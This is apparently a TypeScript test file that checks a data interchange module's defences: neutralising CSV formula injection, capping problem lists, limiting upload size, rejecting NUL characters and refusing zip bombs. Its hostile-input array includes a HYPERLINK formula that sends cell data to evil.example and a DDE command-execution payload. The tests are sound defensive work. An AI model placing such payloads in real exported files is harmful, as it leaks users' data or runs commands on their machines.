import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFile } from '@/db/import-file';
import { readUpload } from '@/lib/interchange/upload';
import { databaseState, expectOk, mixedCohort, system } from '@/db/__tests__/fixtures';
import { backends, openTestDb, type TestDb } from '@/db/__tests__/setup';
import { parseCsvTable, toCsv } from '@/lib/interchange/csv';
import { neutraliseCell, restoreCell } from '@/lib/interchange/formula';
import { listedProblems, MAX_INFLATED_BYTES, MAX_PROBLEMS, MAX_ROWS, MAX_UPLOAD_BYTES, ProblemList, readBounded } from '@/lib/interchange/limits';
import { departmentToRow, rowsToCohort, tableColumns } from '@/lib/interchange/table';
import { buildTemplate, readWorkbook } from '@/lib/interchange/xlsx';
import { checkZip } from '@/lib/interchange/zip-guard';
import { parseCohort } from '@/lib/scoring';
import { parseCohortDocument } from '@/lib/interchange/cohort';
import { sourceToCohort } from '@/lib/interchange/source';
import { badRowsCsv, lyingZip } from './bombs';

const keys = tableColumns(system).map((c) => c.key);
const round = { slug: 'x', name: '2021年度', year: 2021 };

describe('CSV export formula neutralisation (finding 4)', () => {
  const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "=cmd|' /C calc'!A0", '+1+1', '-1+cmd|x', '@SUM(A1:A9)', '\t=1', '\r=1', "'=already quoted", "''=twice", "'plain", 'plain', '乡镇'];

  it('writes no cell a spreadsheet would run as a formula', () => {
    const csv = toCsv(['name'], HOSTILE.map((v) => [v]));
    const lines = csv.replace(/^\uFEFF/, '').split('\r\n').slice(1, -1);
    // Today's main wrote =HYPERLINK(… and =cmd|… as they were.
    expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""点我"")"`);
    expect(lines[1]).toBe("'=cmd|' /C calc'!A0");
    for (const cell of lines) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('keeps plain numbers as numbers, negative ones included, and neutralises every other leading -', () => {
    expect(['-0.05', '-1.25', '+3', '96.00'].map(neutraliseCell)).toEqual(['-0.05', '-1.25', '+3', '96.00']);
    expect(neutraliseCell('-1+2')).toBe("'-1+2");
    expect(neutraliseCell('-')).toBe("'-");
  });

  it('reads back exactly what was exported: the import strips the one added quote', () => {
    const header = ['code', 'name', 'group'];
    const rows = HOSTILE.map((v, i) => [`d${i}`, v, '-1.5']);
    const read = parseCsvTable(toCsv(header, rows));
    expect(read.ok).toBe(true);
    if (!read.ok) return;
    expect(read.source.rows.map((r) => [r.cells.code, r.cells.name, r.cells.group])).toEqual(rows);
    expect(HOSTILE.map((v) => restoreCell(neutraliseCell(v)))).toEqual(HOSTILE);
  });
});

describe('the problem list (finding 3, issue 9 §5)', () => {
  it('keeps the first 200 problems and only counts the rest', () => {
    const list = new ProblemList();
    for (let i = 0; i < 100_000; i++) list.push({ row: i, message: 'x' });
    expect(list.length).toBe(MAX_PROBLEMS);
    expect(list.more).toBe(100_000 - MAX_PROBLEMS);
    const { problems, more } = list.result();
    expect(problems.constructor).toBe(Array);
    expect(problems.map((p) => p.row)).toEqual(Array.from({ length: MAX_PROBLEMS }, (_, i) => i));
    expect(listedProblems({ problems, more })).toEqual({ problems, more: 100_000 - MAX_PROBLEMS });
  });

  it('is what the table parser builds: 5,000 bad rows give 200 problems and a count', () => {
    const read = parseCsvTable(badRowsCsv(MAX_ROWS, keys));
    if (!read.ok) throw new Error('key row not found');
    const r = rowsToCohort(read.source, system, round);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems).toHaveLength(MAX_PROBLEMS);
    expect('more' in r ? r.more : 0).toBeGreaterThan(MAX_ROWS * 10);
  });

  it('is what the JSON parser fills, so one department with a million unknown keys costs a count', () => {
    const dept = { ...(mixedCohort(0).departments[0] as Record<string, unknown>) };
    dept.inputs = { ...(dept.inputs as object), ...Object.fromEntries(Array.from({ length: 50_000 }, (_, i) => [`k${i}`, '1'])) };
    const r = parseCohortDocument({ ...mixedCohort(0), departments: [dept] }, system);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems).toHaveLength(MAX_PROBLEMS);
    expect('more' in r ? r.more : 0).toBeGreaterThanOrEqual(50_000 - MAX_PROBLEMS);
  });
});

describe('reading an upload', () => {
  it('refuses more than 5,000 departments before checking any of them', async () => {
    const csv = badRowsCsv(MAX_ROWS + 1, keys);
    expect(Buffer.byteLength(csv)).toBeLessThan(MAX_UPLOAD_BYTES);
    expect(await readUpload('many.csv', Buffer.from(csv))).toEqual({ ok: false, problems: [{ message: '文件中有 5,001 个单位的数据，一次最多导入 5,000 个；请分批导入' }] });
    const json = JSON.stringify({ ...mixedCohort(0), departments: Array.from({ length: MAX_ROWS + 1 }, () => ({})) });
    expect(await readUpload('many.json', Buffer.from(json))).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('5,001') }] });
  });

  it('refuses the probe’s 16 MB CSV of 100,000 bad rows by its size alone', async () => {
    const csv = Buffer.from(badRowsCsv(100_000, keys));
    expect(csv.length).toBeGreaterThan(14 * 1024 * 1024);
    expect(await readUpload('huge.csv', csv)).toMatchObject({ ok: false, problems: [{ message: expect.stringMatching(/^文件过大（1\d\.\d MB）：上传文件最大 10 MB/) }] });
  });

  it('refuses text with NUL characters with a message instead of a database error', async () => {
    const nul = { ok: false, problems: expect.arrayContaining([expect.objectContaining({ message: expect.stringContaining('NUL') })]) };
    const csv = toCsv(keys, [keys.map((k) => (k === 'name' ? 'a\u0000b' : 'x'))]);
    const fromCsv = await readUpload('nul.csv', Buffer.from(csv));
    expect(fromCsv.ok && sourceToCohort(fromCsv.source, system, round)).toMatchObject(nul);
    const json = JSON.stringify({ ...mixedCohort(0), departments: [{ ...(mixedCohort(0).departments[0] as object), name: 'a\u0000b' }] });
    const fromJson = await readUpload('nul.json', Buffer.from(json));
    expect(fromJson.ok ? sourceToCohort(fromJson.source, system, round) : fromJson).toMatchObject(nul);
  });
});

describe('an xlsx’s real unzipped size (finding 3)', () => {
  it('is measured by inflating, whatever its directory claims, and a bomb is refused at the limit', async () => {
    const bomb = await lyingZip(MAX_INFLATED_BYTES * 4, 1024);
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect(await checkZip(bomb)).toEqual({ ok: false, message: 'xlsx 文件解压后过大（超过 48 MB），拒绝读取；一个模板文件远小于此' });
    expect(await readWorkbook(bomb)).toMatchObject({ ok: false, problems: [{ message: expect.stringContaining('解压后过大') }] });
  });

  it('passes a real 5,000-row template and reports its true size', async () => {
    const parsed = parseCohort(mixedCohort(200), system);
    if (!parsed.ok) throw new Error('fixture');
    const xlsx = await buildTemplate(system, round, parsed.cohort.departments.map((d) => departmentToRow(d)));
    const r = await checkZip(xlsx);
    expect(r.ok).toBe(true);
    if (r.ok) expect(r.inflatedBytes).toBeGreaterThan(xlsx.length);
  });

  it('refuses a zip whose directory points outside the file', async () => {
    const bomb = await lyingZip(1000);
    bomb.writeUInt32LE(bomb.length + 100, bomb.length - 22 + 16);
    expect(await checkZip(bomb)).toEqual({ ok: false, message: 'xlsx 文件已损坏，无法读取' });
  });
});

describe('reading a request body', () => {
  const stream = (chunks: number, size: number) =>
    new ReadableStream<Uint8Array>({
      start(c) {
        for (let i = 0; i < chunks; i++) c.enqueue(new Uint8Array(size));
        c.close();
      },
    });

  it('stops at the limit instead of taking the whole body', async () => {
    const r = await readBounded(stream(300, 1024 * 1024), MAX_UPLOAD_BYTES);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.received).toBeLessThanOrEqual(MAX_UPLOAD_BYTES + 1024 * 1024);
    expect(await readBounded(stream(3, 1000), MAX_UPLOAD_BYTES)).toMatchObject({ ok: true, buffer: expect.any(Buffer) });
  });
});

describe.each(backends)('importing on %s', (backend) => {
  let t: TestDb;
  beforeAll(async () => {
    t = await openTestDb(backend);
    const seed = await importFile({ roundSlug: 'caps', system: 'julu-2021', fileName: 'seed.json', buffer: Buffer.from(JSON.stringify(mixedCohort(3))), actor: 'test' }, t.db);
    expectOk(seed);
  });
  afterAll(async () => {
    await t?.close();
  });

  it('lists 200 problems of a file of bad rows and counts the rest, storing nothing', async () => {
    const before = await databaseState(t.db);
    const r = await importFile({ roundSlug: 'caps', fileName: 'bad.csv', buffer: Buffer.from(badRowsCsv(300, keys)), actor: 'test' }, t.db);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    const { problems, more } = listedProblems(r);
    expect(problems).toHaveLength(MAX_PROBLEMS);
    expect(problems[0]).toMatchObject({ row: 2 });
    expect(more).toBeGreaterThan(300 * 10);
    expect(await databaseState(t.db)).toEqual(before);
  });

  it('refuses 5,001 rows with one message, storing nothing', async () => {
    const before = await databaseState(t.db);
    const r = await importFile({ roundSlug: 'caps', fileName: 'many.csv', buffer: Buffer.from(badRowsCsv(MAX_ROWS + 1, keys)), actor: 'test' }, t.db);
    expect(r).toEqual({ ok: false, problems: [{ message: '文件中有 5,001 个单位的数据，一次最多导入 5,000 个；请分批导入' }] });
    expect(await databaseState(t.db)).toEqual(before);
  });
});
